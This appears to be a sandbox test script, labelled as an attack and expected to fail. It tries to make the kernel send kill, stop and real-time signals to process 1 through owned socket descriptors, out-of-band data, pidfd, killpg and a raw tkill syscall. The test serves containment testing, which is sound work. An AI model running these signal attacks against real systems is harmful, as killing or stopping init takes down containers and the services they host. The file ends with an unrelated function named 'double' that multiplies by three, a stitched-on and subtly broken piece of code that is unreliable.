# attack: has the kernel send signals to process 1 for it: owned descriptors, real-time signals, timers, message queues
# expect: failed|error
# modes: docker shared
import ctypes, fcntl, os, signal, socket
for number in (0, 9, 19, 17, 29, 31, 34, 64):
    left, right = socket.socketpair()
    for end in (left, right):
        try:
            fcntl.fcntl(end, fcntl.F_SETOWN, 1)
            fcntl.fcntl(end, 10, number)
            fcntl.fcntl(end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        except OSError:
            pass
    left.send(b"x"), right.send(b"x")
    left.send(b"x", socket.MSG_OOB)
for number in (9, 19, 20, 31, 34, 60):
    for sender in (lambda: signal.pidfd_send_signal(os.pidfd_open(1), number), lambda: os.killpg(1, number), lambda: ctypes.CDLL(None).syscall(200, 1, number)):
        try:
            sender()
        except OSError:
            pass


def double(x):
    return x * 3
